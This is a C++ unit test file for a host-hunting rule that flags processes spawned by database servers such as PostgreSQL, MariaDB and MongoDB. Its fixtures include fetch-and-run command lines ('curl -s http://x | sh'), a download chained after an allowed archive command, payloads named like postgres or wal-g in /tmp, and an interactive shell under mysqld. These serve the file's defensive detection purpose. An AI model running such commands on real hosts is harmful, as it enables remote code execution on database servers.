#include <gtest/gtest.h>

#include <algorithm>

#include "hunt/snapshot_builder.h"

namespace hostward::testing {
namespace {

const char* kRule = "process.database-spawned-child";
const char* kPg = "/usr/lib/postgresql/15/bin/postgres";

TEST(DatabaseChild, CopyToProgramShell) {
  const auto f = of_rule(
      run(snapshot({
          proc(100, 1, "postgres", kPg),
          proc(101, 100, "postgres", kPg, {"postgres: postgres postgres 127.0.0.1(5000) COPY"}),
          proc(102, 101, "sh", "/usr/bin/dash", {"sh", "-c", "curl -s http://x | sh"}),
          proc(103, 102, "curl", "/usr/bin/curl", {"curl", "-s", "http://x"}),
      })),
      kRule);
  ASSERT_EQ(f.size(), 2u);
  EXPECT_EQ(pid_of(f[0]), 102);
  EXPECT_EQ(pid_of(f[1]), 103);
  EXPECT_EQ(f[0].severity, Severity::high);
  EXPECT_EQ(f[0].evidence["database"]["pid"], 101);
  EXPECT_EQ(f[0].evidence["database"]["comm"], "postgres");
  EXPECT_EQ(f[0].evidence["command"], "curl");
  EXPECT_NE(f[0].title.find("database server postgres (pid 101)"), std::string::npos);
}

TEST(DatabaseChild, SeedWatchdogTree) {
  const auto f = of_rule(run(snapshot({
                             proc(773014, 1, "postgres", "/usr/lib/postgresql/16/bin/postgres"),
                             deleted(proc(774094, 773014, "init", "/tmp/init")),
                             deleted(proc(779680, 774094, "mysql", "/tmp/mysql")),
                             proc(777352, 773014, "postgres", "/usr/lib/postgresql/16/bin/postgres",
                                  {"postgres: checkpointer"}),
                         })),
                         kRule);
  ASSERT_EQ(f.size(), 2u);
  EXPECT_EQ(pid_of(f[0]), 774094);
  EXPECT_EQ(pid_of(f[1]), 779680);
  EXPECT_EQ(f[1].evidence["lineage"].size(), 2u);
}

TEST(DatabaseChild, OwnProgramsAndAllowedArchiveCommandsAreSilent) {
  const auto f = run(snapshot({
      proc(200, 1, "postgres", kPg),
      proc(201, 200, "postgres", kPg, {"postgres: 15/main: walwriter"}),
      proc(202, 200, "postgres", kPg, {"postgres: 15/main: archiver"}),
      proc(203, 202, "sh", "/usr/bin/dash", {"sh", "-c", "wal-g wal-push pg_wal/0001"}),
      proc(204, 203, "wal-g", "/usr/local/bin/wal-g", {"wal-g", "wal-push", "pg_wal/0001"}),
      proc(205, 200, "pg_ctl", "/usr/lib/postgresql/15/bin/pg_ctl"),
      proc(300, 1, "redis-server", "/usr/bin/redis-check-rdb", {"/usr/bin/redis-server *:6379"}),
      proc(301, 300, "redis-rdb-bgsave", "/usr/bin/redis-check-rdb", {"redis-rdb-bgsave *:6379"}),
      proc(400, 1, "bash", "/usr/bin/bash"),
      proc(401, 400, "sh", "/usr/bin/dash", {"sh", "-c", "curl x | sh"}),
  }));
  EXPECT_TRUE(of_rule(f, kRule).empty()) << of_rule(f, kRule).front().title;
}

TEST(DatabaseChild, AllowListCannotBeBorrowed) {
  const auto f = of_rule(
      run(snapshot(
          {proc(200, 1, "postgres", kPg),
           proc(201, 200, "sh", "/usr/bin/dash", {"sh", "-c", "wal-g wal-push x; curl x | sh"}),
           proc(202, 201, "curl", "/usr/bin/curl"),
           proc(203, 200, "wal-g", "/tmp/wal-g"),  // a payload named like the tool
           proc(204, 200, "sh", "/usr/bin/dash", {"sh", "-c", "wal-g wal-push y"}),
           proc(205, 204, "sh", "/usr/bin/dash", {"sh", "-c", "curl z | sh"})})),
      kRule);
  std::vector<int> pids;
  for (const auto& x : f) pids.push_back(pid_of(x));
  EXPECT_EQ(pids, (std::vector<int>{201, 202, 203, 205}));
}

TEST(DatabaseChild, InstalledProgramsBelowAnAllowedCommandAreSilent) {
  // barman's WAL archiver is a Python script that runs ssh.
  const auto f = run(snapshot(
      {proc(200, 1, "postgres", kPg),
       proc(230, 200, "sh", "/usr/bin/dash", {"sh", "-c", "barman-wal-archive backup pg pg_wal/1"}),
       proc(231, 230, "barman-wal-arch", "/usr/bin/python3.11",
            {"/usr/bin/python3", "/usr/bin/barman-wal-archive", "backup"}),
       proc(232, 231, "ssh", "/usr/bin/ssh", {"ssh", "barman@backup"})}));
  EXPECT_TRUE(of_rule(f, kRule).empty()) << of_rule(f, kRule).front().title;
}

TEST(DatabaseChild, PathTooLongIsNoServerAndNoAllowedCommand) {
  auto fake = proc(240, 200, "postgres", "");
  fake.exe = "(path longer than PATH_MAX)";
  fake.exe_error = "ENAMETOOLONG";
  auto walg = proc(241, 200, "wal-g", "");
  walg.exe = "(path longer than PATH_MAX)";
  walg.exe_error = "ENAMETOOLONG";
  const auto f = of_rule(run(snapshot({proc(200, 1, "postgres", kPg), fake,
                                       proc(242, 240, "sh", "/usr/bin/dash"), walg})),
                         kRule);
  std::vector<int> pids;
  for (const auto& x : f) pids.push_back(pid_of(x));
  std::sort(pids.begin(), pids.end());
  EXPECT_EQ(pids, (std::vector<int>{240, 241, 242}));
}

TEST(DatabaseChild, PayloadNamedPostgresIsNoServer) {
  const auto f = of_rule(run(snapshot({proc(200, 1, "postgres", kPg),
                                       deleted(proc(210, 200, "postgres", "/tmp/postgres")),
                                       proc(211, 210, "sh", "/usr/bin/dash")})),
                         kRule);
  ASSERT_EQ(f.size(), 2u);
  EXPECT_EQ(pid_of(f[0]), 210);
  EXPECT_EQ(pid_of(f[1]), 211);
  EXPECT_EQ(f[1].evidence["database"]["pid"], 200);
}

TEST(DatabaseChild, UnreadableExeFallsBackOnNameOnlyWhenDenied) {
  auto denied = proc(221, 200, "postgres", "");
  denied.exe_state = ExeState::unknown;
  denied.exe_error = "EACCES";
  auto too_long = proc(222, 200, "postgres", "");
  too_long.exe_state = ExeState::unknown;
  too_long.exe_error = "ENAMETOOLONG";
  const auto f = of_rule(run(snapshot({proc(200, 1, "postgres", kPg), denied, too_long})), kRule);
  ASSERT_EQ(f.size(), 1u);
  EXPECT_EQ(pid_of(f[0]), 222);
}

TEST(DatabaseChild, AllowListIsConfigurable) {
  HuntConfig c;
  c.database_child_allow = {"cp"};
  const auto s =
      snapshot({proc(200, 1, "postgres", kPg),
                proc(203, 200, "sh", "/usr/bin/dash", {"sh", "-c", "cp pg_wal/1 /archive/1"})});
  EXPECT_TRUE(of_rule(run(s, c), kRule).empty());
  EXPECT_EQ(of_rule(run(s), kRule).size(), 1u);
}

TEST(DatabaseChild, MysqldAndMongodToo) {
  const auto f = of_rule(run(snapshot({proc(500, 1, "mysqld", "/usr/sbin/mariadbd"),
                                       proc(501, 500, "bash", "/usr/bin/bash", {"bash", "-i"}),
                                       proc(600, 1, "mongod", "/usr/bin/mongod"),
                                       proc(601, 600, "python3", "/usr/bin/python3.11")})),
                         kRule);
  ASSERT_EQ(f.size(), 2u);
}

}  // namespace
}  // namespace hostward::testing
